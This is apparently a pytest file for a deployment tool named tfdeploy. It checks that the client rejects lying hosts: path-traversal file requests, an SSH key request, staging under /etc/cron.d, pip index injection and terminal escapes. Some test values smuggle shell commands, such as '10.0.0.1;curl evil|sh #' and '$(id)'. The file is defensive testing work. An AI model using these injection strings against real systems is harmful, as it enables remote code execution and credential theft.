"""Test false answers that tfdeploy once accepted from hosts. test_hostile_agent.py tests random
false answers.
"""

from __future__ import annotations

import base64
import threading
import zlib
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from support.faults.doings import (
    LIAR,
    OTHER,
    PLAN,
    Wires,
    fetch_both_logs,
    look_for_runs,
    probe_both,
    set_up_both,
    sync_both,
)
from support.faults.honest import FILES, HOSTS, JOB, LOG, WORKDIR, HonestAnswer, honest_answer
from support.faults.hostile import DETAILS, LyingFleet
from tfdeploy.agent.listing import Listing, Row
from tfdeploy.errors import BadAnswer, HostUnreachable, TfdeployError
from tfdeploy.model.answers.failures import Failure
from tfdeploy.model.answers.hosts import Hello
from tfdeploy.model.answers.runs import RunEnded, Survivor
from tfdeploy.model.events import Event
from tfdeploy.model.inventory import Host
from tfdeploy.model.job import Job
from tfdeploy.model.loglines import LogLine
from tfdeploy.model.status.run_status import run_view_json
from tfdeploy.operations.broadcast import origin
from tfdeploy.operations.lock import HostLocks
from tfdeploy.operations.logs import follow_lines
from tfdeploy.operations.run_lookup.find_run import find_runs, hosts_of
from tfdeploy.operations.runs import list_runs
from tfdeploy.operations.setup import Environment, common_package_versions
from tfdeploy.operations.status import status as look_at
from tfdeploy.operations.stop import stop
from tfdeploy.operations.tasklogs.stored_lines import stored_lines
from tfdeploy.operations.tasklogs.task_log import LogQuery
from tfdeploy.operations.watch.follow import follow
from tfdeploy.store.runs import RunStore
from tfdeploy.text.row_values import iso_z
from tfdeploy.text.typed import InvalidJsonValue, Seconds, convert_untrusted
from tfdeploy.transport.agent.stream import agent_error

STAGING = f"{WORKDIR}/jobs/{JOB}/releases/.staging-x"
BEGUN = {"staging": STAGING, "missing": list(FILES), "linked": 0, "rsync": True}


def bitmap(rows: int) -> str:
    return base64.b64encode(
        zlib.compress(rows.to_bytes(max(1, (rows.bit_length() + 7) // 8), "little"))
    ).decode()


LACKING = {
    "lacking_bytes": 8,
    "folder_id": "x",
    "staging": f"{WORKDIR}/jobs/{JOB}/data/.digits.new",
    "staged": bitmap(0),
}


# {case: (verb, false answer, expected part of the error)}
ASKED_FOR = {
    "an ignored file": (
        "release.begin",
        {**BEGUN, "missing": ["a.txt", "secret"]},
        "asks for 'secret'",
    ),
    "a key behind a link": (
        "release.begin",
        {**BEGUN, "missing": ["notes/id_ed25519"]},
        "asks for 'notes/id_ed25519'",
    ),
    "a path that leads out": ("release.begin", {**BEGUN, "missing": ["../data/a.txt"]}, "asks for"),
    "one file for ever": ("release.begin", {**BEGUN, "missing": ["a.txt"] * 9}, "a second time"),
    "later": ("release.commit", {"changed": ["secret"]}, "asks for 'secret'"),
    "a place elsewhere": (
        "release.begin",
        {**BEGUN, "staging": "/etc/cron.d"},
        "outside its workdir",
    ),
    "a place that leads out": (
        "release.begin",
        {**BEGUN, "staging": f"{WORKDIR}/../../x"},
        "outside its workdir",
    ),
    "a place like its workdir": (
        "release.begin",
        {**BEGUN, "staging": f"{WORKDIR}2/x"},
        "outside its workdir",
    ),
    "data outside its workdir": (
        "data.lack",
        {**LACKING, "lacking": bitmap(0b0010), "staging": "/etc/cron.d"},
        "outside its workdir",
    ),
    "a folder of the data": (
        "data.lack",
        {**LACKING, "lacking": bitmap(0b0001)},
        "rows that are not files",
    ),
    "more than the data": (
        "data.lack",
        {**LACKING, "lacking": bitmap(1 << 40)},
        "the host's bitmap of files",
    ),
    "what cannot be read": (
        "data.lack",
        {**LACKING, "lacking": "????"},
        "the host's bitmap of files",
    ),
}


def lying(verb: str, value: Any) -> LyingFleet:
    answer = value if isinstance(value, HonestAnswer) else HonestAnswer([], value)
    return LyingFleet(lambda host, asked: answer if (host, asked) == (LIAR, verb) else None)


@pytest.mark.fault("59 a host asks for files that are not for it")
@pytest.mark.parametrize("case", ASKED_FOR)
def test_only_files_of_manifest_are_sent(case: str, wires: Wires, tmp_path: Path, job: Job) -> None:
    verb, value, words = ASKED_FOR[case]
    synced = sync_both(lying(verb, value), tmp_path, job)
    assert (
        isinstance(synced[LIAR], BadAnswer)
        and words in synced[LIAR].what
        and synced[LIAR].exit_code == 1
    )
    assert synced[OTHER].sent == ["code", "data digits"]
    assert wires.sent[LIAR] == [] or (
        case.startswith("later") and not any("secret" in names for _, names in wires.sent[LIAR])
    )


@pytest.mark.fault("59 a nonsensical answer to stop")
@pytest.mark.parametrize(
    "value",
    [None, "stopped", {"survivors": "none"}, {"survivors": [{"pid": "all"}]}, {"seconds": "soon"}],
)
def test_stop_reaches_other_hosts_after_false_answer(value: Any) -> None:
    fleet = LyingFleet(lambda host, asked: HonestAnswer([], value) if host == LIAR else None)
    stopped = stop(fleet, PLAN, grace_s=0.0)
    assert isinstance(stopped[LIAR], BadAnswer) and "run.stop is invalid" in stopped[LIAR].what
    assert stopped[OTHER] == RunEnded(
        survivors=[Survivor(pid=7, state="D", command="x")], seconds=0.1, messenger=False
    )


def test_hello_is_checked() -> None:
    hello = honest_answer("hello", LIAR, {}).value
    for name, value in {
        "workdir": "tfdeploy",
        "clock": float("nan"),
        "pid": "1",
        "home": "/home/\x1b[2J",
    }.items():
        with pytest.raises(InvalidJsonValue):
            convert_untrusted({**hello, name: value}, Hello)


@pytest.mark.fault("59 installed versions that are lines for another host's pip")
@pytest.mark.parametrize(
    "packages",
    [
        {"numpy": "6.6.6\n--find-links http://192.0.2.66/"},
        {"numpy\n--index-url http://192.0.2.66/ x": "1"},
        {"numpy @ http://192.0.2.66/x.whl": "1"},
        {"-r": "1"},
        {"numpy": "*"},
        {"numpy": ""},
        {"numpy": "1.0 ; python_version > '3'"},
        {"Numpy": "1.0"},
        {"numpy": "\uff11.0"},
        {"numpy": "1" * 200},
    ],
)
def test_packages_of_host_add_no_line_to_pins_of_another(
    packages: dict[str, str], job: Job, tmp_path: Path
) -> None:
    ready = {
        **honest_answer("env.state", LIAR, {}).value,
        "ready": True,
        "by": "pip",
        "packages": packages,
    }
    environments = set_up_both(lying("env.state", ready), tmp_path, job)
    assert isinstance(environments[LIAR], BadAnswer) and "env.state" in environments[LIAR].what
    assert environments[OTHER].made and environments[OTHER].packages == {
        "numpy": "1.26.4",
        "typing-extensions": "4.9.0",
    }


def test_pins_have_packages_common_to_similar_hosts() -> None:
    def has(python: str, **packages: str) -> Environment:
        return Environment(folder="/e", python_version=python, by="uv", packages=packages)

    environments = [
        has("3.11.2", numpy="1.26.4", rich="13.7"),
        has("3.11.2", numpy="1.26.4", rich="0.1", evil="1"),
        has("3.9.1", numpy="2"),
    ]
    assert common_package_versions(environments) == {
        "3.11.2": {"numpy": "1.26.4"},
        "3.9.1": {"numpy": "2"},
    }


FACTS = {
    "an address for a shell": {"ssh_server_address": "10.0.0.1;curl evil|sh #"},
    "a zone for a shell": {"ssh_server_address": "fe80::1%$(id)"},
    "a name for an address": {"ssh_server_address": "n2"},
    "an interpreter elsewhere": {"python": "python3\n"},
    "a relative workdir": {"workdir": "../x"},
    "a port of sshd": {"free_ports": [22]},
    "endless inodes": {"free_inodes": 1e999},
    "a core less than none": {"cores": -1},
    "a clock that is no number": {"clock": float("nan")},
    "a GPU with escapes": {
        "gpus": [{"index": 0, "name": "\x1b[2J", "memory_mib": 1, "used_mib": 0, "uuid": ""}]
    },
    "loopback names of its own": {"hosts_file_loopback": ["n2"]},
    "addresses of a name of its own": {"resolved": {"n2": ["10.0.0.2"]}},
    "a name for the address of a name": {"resolved": {"n1": ["n2"]}},
    "a module that nobody asked about": {"modules": {"os": False}},
    "a version with a line": {"tensorflow": "2.21.0\nx"},
    "a run that leads out": {"live_runs": [{"run": "../../x", "who": "me", "started": 1.0}]},
    "a variable of its own": {"preset": ["A=1;B"]},
}


@pytest.mark.fault("59 facts that are no facts")
@pytest.mark.parametrize("case", FACTS)
def test_invalid_fact_fails_only_its_host(case: str, job: Job, tmp_path: Path) -> None:
    value = {**honest_answer("probe", LIAR, {}).value, **FACTS[case]}
    facts = probe_both(lying("probe", value), tmp_path, job)
    assert (
        isinstance(facts[LIAR], TfdeployError)
        and facts[LIAR].where == LIAR
        and facts[LIAR].exit_code in (1, 4)
    )


OTHERS_TASK = honest_answer("run.status", OTHER, {}).value["tasks"][0]
OTHERS_STATE = honest_answer("run.status", OTHER, {}).value["host_state"]
FALSE_EVENTS: dict[str, list[Any]] = {
    "no news at all": [],
    "garbage": [{"task": "worker:0"}],
    "an unknown word": [{"host_state": {**OTHERS_STATE, "host": LIAR, "phase": "asleep"}}],
    "a task of another host": [{"task": OTHERS_TASK}],
    "the state of another host": [{"host_state": OTHERS_STATE}],
    "another run": [{"host_state": {**OTHERS_STATE, "host": LIAR, "run": "r2"}}],
    "NaN": [{"task": {**OTHERS_TASK, "started": float("nan")}}],
}


@pytest.mark.fault("59 news that make no sense, while a launch waits")
@pytest.mark.parametrize("case", FALSE_EVENTS)
def test_nonsense_does_not_delay_follower_of_run(
    case: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The client closes the connection to a host that sends a frame with NaN. After all other hosts
    # have ended, a client that follows the run waits at most SILENT_S for such a host.
    monkeypatch.setattr("tfdeploy.operations.watch.follow.SILENT_S", 1.0)
    answer = HonestAnswer([(item, b"") for item in FALSE_EVENTS[case]], {})
    events: list[Event] = []
    lines: list[LogLine] = []
    stop = threading.Event()
    view = in_time(
        lambda: follow(
            lying("run.watch", answer),
            PLAN,
            events.append,
            stop=stop,
            take_lines=lines.extend,
            last=1,
        )
    )
    stop.set()
    assert view.is_final and view.unreachable == (LIAR,)
    assert [line.line for line in lines if line.host == OTHER] == LOG.splitlines()
    assert any(
        event.kind == "host" and event.host == LIAR and event.data["state"] == "unreachable"
        for event in events
    )


def in_time(act: Callable[[], Any]) -> Any:
    """Return the result of `act`, or fail if `act` takes too long."""
    collected: list[Any] = []
    thread = threading.Thread(target=lambda: collected.append(act()), daemon=True)
    thread.start()
    thread.join(120)
    assert collected, "the call hangs, or it failed"
    return collected[0]


def piece(
    offset: int = 0, task: str = "worker:0", blob: bytes = b"x\n" * 5
) -> tuple[dict[str, Any], bytes]:
    return {"task": task, "offset": offset, "records": [[0, 1.0, 0, 1]]}, blob


LOG_END = {"ended": False, "left": False, "cursors": {}, "ends": {"worker:0": 1 << 50}}
PIECES = {
    "of another task": [piece(task="worker:1")],
    "one again and again": [piece(blob=b"x" * (1 << 18))] * 4,
    "far more than was asked for": [
        piece(number << 18, blob=b"x" * (1 << 18)) for number in range(12)
    ],
    "nothing without end": [piece(number, blob=b"") for number in range(30_000)],
}


@pytest.mark.fault("59 a log that makes no sense or has no end")
@pytest.mark.parametrize("case", PIECES)
@pytest.mark.parametrize("followed", [False, True])
def test_invalid_log_ends(case: str, followed: bool) -> None:
    lost: dict[str, TfdeployError] = {}
    fleet = lying("logs", HonestAnswer(PIECES[case], LOG_END))
    query = LogQuery(tasks=("worker:0", "worker:1"))
    lines = in_time(
        lambda: list(
            follow_lines(fleet, PLAN, query, lost, {})
            if followed
            else stored_lines(fleet, PLAN, query, lost)
        )
    )
    assert isinstance(lost[LIAR], BadAnswer) and list(lost) == [LIAR]
    assert [line.line for line in lines if line.host == OTHER] == LOG.splitlines()


class Clock:
    """A clock that advances by one minute at each reading."""

    def __init__(self) -> None:
        self.now = 0.0

    def monotonic(self) -> float:
        self.now += 60.0
        return self.now

    time = monotonic


@pytest.mark.parametrize("kind_of_answer", ["logs", "fetch.list", "env.make", "fetch --logs"])
def test_slowly_sent_answer_is_given_up(
    kind_of_answer: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, job: Job
) -> None:
    modules = {
        "logs": "tasklogs.task_log",
        "fetch.list": "copy.pull",
        "env.make": "setup",
        "fetch --logs": "copy.pull_logs",
    }
    monkeypatch.setattr(f"tfdeploy.operations.{modules[kind_of_answer]}.time", Clock())
    drops = [piece(number, blob=b"x") for number in range(2000)]
    if kind_of_answer == "logs":
        lost: dict[str, TfdeployError] = {}
        list(
            stored_lines(
                lying("logs", HonestAnswer(drops, LOG_END)),
                PLAN,
                LogQuery(tasks=("worker:0",)),
                lost,
            )
        )
        error = lost[LIAR]
    elif kind_of_answer == "fetch --logs":
        error = fetch_both_logs(lying("logs", HonestAnswer(drops, LOG_END)), tmp_path, job)[LIAR]
    elif kind_of_answer == "fetch.list":
        items = [({"rows": [[f"sub/{number}", 1, 1, None]]}, b"") for number in range(2000)]
        error = look_for_runs(
            lying("fetch.list", HonestAnswer(items, {"root": WORKDIR, "sharing": []})),
            tmp_path,
            job,
        )[LIAR]
    else:
        lines = [({"line": f"Compiling {number}"}, b"") for number in range(2000)]
        error = set_up_both(
            lying("env.make", HonestAnswer(lines, honest_answer("env.make", LIAR, {}).value)),
            tmp_path,
            job,
        )[LIAR]
    assert isinstance(error, TfdeployError) and error.exit_code in (1, 4)
    assert any(
        word in error.what
        for word in ("did not arrive", "too slowly", "takes too long", "without end")
    ), error.what


@pytest.mark.parametrize("blob", [b"", b"x"])
def test_log_in_many_pieces_creates_few_local_files(blob: bytes, tmp_path: Path, job: Job) -> None:
    drops = [piece(2 * number, blob=blob) for number in range(1000)]
    fetched = fetch_both_logs(lying("logs", HonestAnswer(drops, LOG_END)), tmp_path, job)
    assert isinstance(fetched[LIAR], BadAnswer) and "invalid part of the log" in fetched[LIAR].what
    assert len(list((tmp_path / "logs").iterdir())) <= 20


def test_host_that_hangs_on_one_log_is_not_asked_for_another() -> None:
    asked: list[str] = []

    class Hanging(LyingFleet):
        def session(self, host: Host, *_: Any) -> Any:
            return SimpleNamespace(host=host, agent=lambda: SimpleNamespace(stream=self.hang))

        def hang(self, verb: Any, args: dict[str, Any], **_: Any) -> Any:
            asked.extend(args["tasks"])
            raise HostUnreachable("no further answer to logs within 60 s", where=LIAR)

    first_task = PLAN.tasks[0]
    many = tuple(replace(first_task, task=f"worker:{number}") for number in range(50))
    lost: dict[str, TfdeployError] = {}
    query = LogQuery(tasks=tuple(task.task for task in many))
    assert (
        list(stored_lines(Hanging(lambda *_: None), replace(PLAN, tasks=many), query, lost)) == []
    )
    assert list(lost) == [LIAR] and asked == ["worker:0"]


def test_slow_log_is_followed_to_its_end() -> None:
    lost: dict[str, TfdeployError] = {}
    line = b"step 1\n"
    pieces = [piece(offset, blob=line) for offset in range(0, 40_000 * len(line), len(line))]
    end = {"ended": True, "left": False, "cursors": {}, "ends": {}}
    fleet = lying("logs", HonestAnswer(pieces, end))
    lines = in_time(
        lambda: list(follow_lines(fleet, PLAN, LogQuery(tasks=("worker:0",)), lost, {}))
    )
    assert not lost and len(lines) == len(pieces)


@pytest.mark.parametrize("seconds", [-1e11, 1e12])
def test_impossible_time_from_host_is_dropped(seconds: float, tmp_path: Path) -> None:
    row = honest_answer("runs", LIAR, {}).value[0]
    row["tasks"][0]["started"] = seconds
    rows, silent = list_runs(lying("runs", [row]), hosts_of(PLAN), RunStore(tmp_path), JOB)
    assert len(rows) == 1 and isinstance(silent[LIAR], BadAnswer)
    status = honest_answer("run.status", LIAR, {}).value
    status["tasks"][0]["ended"] = seconds
    snapshot = look_at(lying("run.status", status), PLAN)
    assert isinstance(snapshot.errors[LIAR], BadAnswer) and run_view_json(snapshot.view)


def test_host_reports_metrics_only_for_its_own_tasks() -> None:
    def samples_of(task: str, printed: object) -> Any:
        samples = {"host": {"time": 1.0}, "tasks": {task: {"time": 1.0, "printed": printed}}}
        return look_at(
            lying(
                "run.status", {**honest_answer("run.status", LIAR, {}).value, "samples": samples}
            ),
            PLAN,
        )

    metrics = {"train/\x1b[2J": 0.5, "step": 7.0}
    samples_of_own_task = samples_of(HOSTS[LIAR], metrics)
    assert not samples_of_own_task.errors
    assert [task.metrics for task in samples_of_own_task.view.tasks if task.host == LIAR] == [
        {"train/\x1b[2J": 0.5}
    ]
    for task, printed in (
        (HOSTS[OTHER], metrics),
        (HOSTS[LIAR], {"x": 1.7e308}),
        (HOSTS[LIAR], {f"t{n}": 1.0 for n in range(65)}),
    ):
        assert isinstance(samples_of(task, printed).errors[LIAR], BadAnswer)


def test_setuid_bits_from_host_are_dropped() -> None:
    """Test that tfdeploy drops the setuid and setgid bits in a host's listing of a data set, before
    other hosts get the files.
    """
    rows = Listing()
    for path, kind, mode in ((b"", "d", 0o3755), (b"tool", "f", 0o6755)):
        size = 4 if kind == "f" else 0
        rows.add(
            Row(
                path=path,
                kind=kind,
                size=size,
                mtime_ns=1,
                mode=mode,
                target=b"",
                same_as=-1,
                allocated=size,
            )
        )
    packed = rows.pack()
    answer = HonestAnswer([({"bytes": len(packed)}, packed)], {"folder": True, "stamp": "1"})
    (host,) = (host for host in hosts_of(PLAN) if host.name == LIAR)
    listed = origin.list_origin_data(lying("data.look", answer), host, "/data")
    assert [row.mode for row in listed.rows] == [0o755, 0o755]
    assert listed.attributes_digest == listed.rows.attributes_digest() != rows.attributes_digest()


@pytest.mark.parametrize("seconds", [-6e10, 1e11])
def test_every_valid_time_from_host_can_be_shown(seconds: float) -> None:
    assert convert_untrusted(seconds, Seconds) == seconds and iso_z(seconds)


@pytest.mark.parametrize("details", DETAILS, ids=str)
@pytest.mark.parametrize("operation", ["sync", "launch"])
def test_false_lock_holder_does_not_stop_other_hosts(
    details: dict[str, Any], operation: str
) -> None:
    class Locked(LyingFleet):
        def session(self, host: Host, *_: Any) -> Any:
            session = super().session(host)
            if host.name == LIAR:
                session.agent = lambda: SimpleNamespace(call=self.refuse)
            return session

        def refuse(self, *_: Any, **kwargs: Any) -> Any:
            raise agent_error(
                convert_untrusted({"code": "locked", "what": "no", "details": details}, Failure),
                LIAR,
            )

    fleet = Locked(lambda *_: None)
    lock = HostLocks(
        fleet=fleet,
        hosts=hosts_of(PLAN),
        job=JOB,
        operation=operation,
        holder={"user": "me"},
        emit=lambda event: None,
    )
    with lock.hold_where_possible() as failed:
        assert [host.name for host in lock.hosts] == [OTHER]
    assert failed[LIAR].exit_code == 3 and "is locked by" in failed[LIAR].what


def test_host_cannot_report_runs_of_another_host() -> None:
    """Test that the answer of one host cannot change what another host has reported about itself,
    even if the answer arrives later.
    """
    lie = honest_answer("runs", OTHER, {}).value[0]
    first = honest_answer("run.status", LIAR, {}).value
    lie["host_state"] = {**first["host_state"], "phase": "committed"}
    lie["tasks"] = [{**first["tasks"][0], "state": "running"}]
    fleet = LyingFleet(lambda host, asked: HonestAnswer([], [lie]) if host == OTHER else None)
    known, _ = find_runs(fleet, hosts_of(PLAN), JOB)
    state_of_liar = known[0].states[LIAR]
    assert (
        state_of_liar is not None
        and state_of_liar.phase == "ended"
        and known[0].tasks["worker:0"].state == "ended"
    )
